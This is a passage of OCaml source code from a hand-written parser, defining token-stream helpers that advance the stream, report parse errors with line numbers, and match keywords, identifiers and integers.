    line); 0 once the stream is exhausted past EOF. *)
let line s = match s.toks with [] -> 0 | (_, l) :: _ -> l

let advance s = match s.toks with [] -> () | _ :: rest -> s.toks <- rest

let next s =
  let t = peek s in
  advance s;
  t

let fail_at s msg =
  raise
    (Parse_error
       (Fmt.str "line %d: %s (at %a)" (line s) msg pp_token (peek s)))

let expect s tok =
  if peek s = tok then advance s
  else fail_at s (Fmt.str "expected %a" pp_token tok)

(** Case-insensitive keyword test against the next token. *)
let at_kw s kw =
  match peek s with
  | IDENT id -> String.uppercase_ascii id = String.uppercase_ascii kw
  | _ -> false

let eat_kw s kw =
  if at_kw s kw then begin
    advance s;
    true
  end
  else false

let expect_kw s kw =
  if not (eat_kw s kw) then fail_at s (Printf.sprintf "expected %s" kw)

let expect_ident s =
  match peek s with
  | IDENT id ->
    advance s;
    id
  | _ -> fail_at s "expected identifier"

let expect_int s =
  match peek s with
  | INT i ->
    advance s;
    i
  | _ -> fail_at s "expected integer"
